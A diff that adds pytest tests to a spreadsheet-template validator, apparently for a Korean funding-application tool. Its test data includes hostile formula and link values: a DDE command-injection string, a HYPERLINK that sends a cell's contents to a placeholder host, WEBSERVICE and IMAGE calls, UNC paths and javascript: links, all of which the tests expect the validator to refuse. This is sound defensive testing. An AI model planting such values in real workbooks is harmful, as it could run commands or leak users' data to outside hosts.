@@ -20,7 +20,7 @@ from assessment.workbooks.guard import admit
 from assessment.workbooks.reading import read_workbook
 from assessment.workbooks.template import SKIP, Template
 from tests.workbooks.funder_template import altered, funder_template, parts_of, with_split_runs
-from tests.workbooks.hostile import INJECTIONS
+from tests.workbooks.hostile import INJECTIONS, LINKS
 
 pytestmark = pytest.mark.slow
 
@@ -145,6 +145,79 @@ def test_a_text_is_never_a_formula_and_its_style_keeps_it_text() -> None:
     assert sheet["B3"].quotePrefix
     assert sheet["A8"].quotePrefix
     assert sheet["B3"].font.name == "굴림"
+
+
+SHEET, LINKS_OF = "xl/worksheets/sheet1.xml", "xl/worksheets/_rels/sheet1.xml.rels"
+PLACES = {
+    "a formula of a cell": (SHEET, b"B6*0.5</f>", b"%s</f>", "신청서!C6"),
+    "a drop-down": (SHEET, "목록!$A$1:$A$2".encode(), b"%s", "신청서"),
+    "a defined name": ("xl/workbook.xml", "신청서!$B$6<".encode(), b"%s<", "총사업비"),
+    "a chart": ("xl/charts/chart1.xml", "신청서!$B$21:$D$21".encode(), b"%s",
+                "xl/charts/chart1.xml"),
+}  # fmt: skip
+REACHING = (
+    "'\\\\h\\share\\[x.xlsx]S'!A1",
+    "[1]Sheet1!A1",
+    "'C:\\d\\[x.xlsx]표 1'!$A$1",
+    "cmd|'/C calc'!A0",
+    'HYPERLINK("\\\\h\\share","가")',
+    "HYPERLINK(B3)",
+    'HYPERLINK("https://h.invalid/?"&amp;B3)',
+    'WEBSERVICE("http://h.invalid")',
+    '_xlfn.IMAGE("http://h.invalid")',
+    "<![CDATA[[1]Sheet1!A1]]>",
+)
+STAYING = (
+    "표1[[#This Row],[합계]]*Sheet2!A1",
+    "'가|나'!A1",
+    'IF(A1="[1]x!",1)',
+    'HYPERLINK("https://h.kr/x","가")',
+    'HYPERLINK("#목록!A1","가")',
+)
+
+
+@pytest.mark.parametrize("place", PLACES)
+def test_a_formula_that_takes_from_outside_is_named_and_the_template_refused(place: str) -> None:
+    part, held, made, where = PLACES[place]
+    assert held in parts_of(TEMPLATE)[part]
+
+    def opened(formula: str) -> Template:
+        said = made.replace(b"%s", formula.encode())
+        return template(altered(TEMPLATE, part, lambda content: content.replace(held, said, 1)))
+
+    for formula in REACHING:
+        with pytest.raises(AssessmentError) as refused:
+            opened(formula)
+        found = [(one.where, one.code) for one in refused.value.problems]
+        assert found == [(where, "template_outside")], formula
+    for formula in STAYING:
+        opened(formula)
+
+
+@pytest.mark.parametrize(
+    "target",
+    ["file:///C:/x.xlsx", "\\\\h\\share", "../x.xlsx", "javascript:x", "http://\\h", " file://h/x"],
+)
+def test_a_link_to_anything_but_a_page_is_named_by_its_cell(target: str) -> None:
+    def linked(address: str) -> bytes:
+        link = f'<Relationship Id="rId99" Type="{LINKS}/hyperlink" Target="{address}" '
+        content = altered(
+            TEMPLATE,
+            LINKS_OF,
+            lambda part: part.replace(
+                b"</Relationships>", f'{link}TargetMode="External"/></Relationships>'.encode()
+            ),
+        )
+        held = b'<hyperlinks><hyperlink ref="B3" r:id="rId99"/></hyperlinks><printOptions/>'
+        return altered(content, SHEET, lambda part: re.sub(b"(?=<pageMargins)", held, part))
+
+    with pytest.raises(AssessmentError) as refused:
+        template(linked(target))
+    assert [(one.where, one.code) for one in refused.value.problems] == [
+        ("신청서!B3", "template_link")
+    ]
+    for page in ("https://h.kr/x", "mailto:a@h.kr"):
+        template(linked(page))
 
 
 def test_what_looks_like_a_template_language_stays_text() -> None:
